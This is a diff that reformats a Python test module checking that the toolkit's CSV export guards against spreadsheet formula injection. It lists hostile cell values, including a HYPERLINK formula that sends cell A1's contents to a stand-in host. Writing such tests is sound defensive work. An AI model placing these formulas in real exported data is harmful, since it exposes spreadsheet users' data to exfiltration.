@@ -19,7 +19,22 @@ from toolkit.table_files import csv_bytes, csv_text, frame_of_csv, guard, read_r
 
 PACKAGE = Path(__file__).parents[2] / "toolkit"
 LINK = '=HYPERLINK("http://x/?"&A1,"open")'
-HOSTILE = (LINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "＋1", "'=1", "''", "－1", "＠x", "\n=1", "\0=1")
+HOSTILE = (
+    LINK,
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "＝1+1",
+    "＋1",
+    "'=1",
+    "''",
+    "－1",
+    "＠x",
+    "\n=1",
+    "\0=1",
+)
 NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?|-?inf", re.IGNORECASE)
 
 
@@ -27,7 +42,9 @@ def formulas(path: Path) -> list[str]:
     """Return the cells of a CSV file that a spreadsheet would run."""
     with path.open(encoding="utf-8", newline="") as stream:
         cells = [cell for row in csv.reader(stream) for cell in row]
-    return [cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n\0＝＋－＠") and not NUMBER.fullmatch(cell)]
+    return [
+        cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n\0＝＋－＠") and not NUMBER.fullmatch(cell)
+    ]
 
 
 def test_one_file_writes_csv() -> None:
@@ -36,7 +53,13 @@ def test_one_file_writes_csv() -> None:
     found = []
     for path in sorted(PACKAGE.rglob("*.py")):
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
-            name = node.attr if isinstance(node, ast.Attribute) else node.id if isinstance(node, ast.Name) else ""
+            name = (
+                node.attr
+                if isinstance(node, ast.Attribute)
+                else node.id
+                if isinstance(node, ast.Name)
+                else ""
+            )
             csv_writer = (
                 name == "writer" and isinstance(node, ast.Attribute) and ast.unparse(node.value) == "csv"
             )
